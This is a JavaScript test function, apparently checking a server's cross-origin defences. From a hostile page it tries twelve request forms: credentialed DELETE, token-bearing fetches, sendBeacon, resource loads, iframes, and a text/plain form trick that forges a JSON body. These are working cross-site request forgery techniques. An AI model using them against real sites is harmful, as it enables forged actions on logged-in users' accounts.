// What a page of another site can try: twelve forms of request. Gives what could be read.
async function attack(targets, token) {
    const readable = [];
    const note = (form, what) => readable.push(form + ": " + String(what).slice(0, 200));
    const text = async (form, promise) => {
        try {
            const response = await promise;
            const body = await response.text();
            if (response.type !== "opaque") {
                note(form, response.status + " " + body);
            }
        } catch { /* as it should be */ }
    };
    const loads = (form, tag, attribute, url) => new Promise((resolve) => {
        const node = document.createElement(tag);
        node.onload = () => { note(form, "loaded " + url); resolve(); };
        node.onerror = () => resolve();
        if (tag === "link") { node.rel = "stylesheet"; }
        node[attribute] = url;
        document.body.append(node);
        setTimeout(resolve, 1500);
    });
    const frame = (form, url, before) => new Promise((resolve) => {
        const node = document.createElement("iframe");
        node.name = "f" + Math.random();
        node.onload = () => {
            try {
                if (node.contentDocument && node.contentDocument.body.innerText) { note(form, node.contentDocument.body.innerText); }
            } catch { /* as it should be */ }
            resolve();
        };
        document.body.append(node);
        before(node);
        setTimeout(resolve, 1500);
    });
    for (const url of targets) {
        const json = JSON.stringify({ name: "evil", url: "http://evil.test/", owner_id: "acme", token });
        await text("fetch", fetch(url));
        await text("fetch no-cors", fetch(url, { mode: "no-cors" }));
        await text("fetch with token", fetch(url, { headers: { Authorization: "Bearer " + token } }));
        await text("fetch post json", fetch(url, { method: "POST", headers: { "Content-Type": "application/json" }, body: json }));
        await text("fetch post text", fetch(url, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: json }));
        await text("fetch delete", fetch(url, { method: "DELETE", credentials: "include" }));
        await new Promise((resolve) => {
            const xhr = new XMLHttpRequest();
            xhr.open("POST", url);
            xhr.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
            xhr.onloadend = () => { if (xhr.status) { note("xhr", xhr.status + xhr.responseText); } resolve(); };
            xhr.send("name=evil");
        });
        navigator.sendBeacon(url, new Blob([json], { type: "text/plain" }));
        await loads("img", "img", "src", url);
        await loads("script", "script", "src", url);
        await loads("stylesheet", "link", "href", url);
        await frame("form", url, (node) => {
            const form = document.createElement("form");
            Object.assign(form, { method: "POST", action: url, enctype: "text/plain", target: node.name });
            const field = document.createElement("input");
            field.name = json.slice(0, -1) + ',"x":"';
            field.value = '"}';
            form.append(field);
            document.body.append(form);
            form.submit();
        });
        await frame("iframe", url, (node) => { node.src = url; });
    }
    return readable;
}
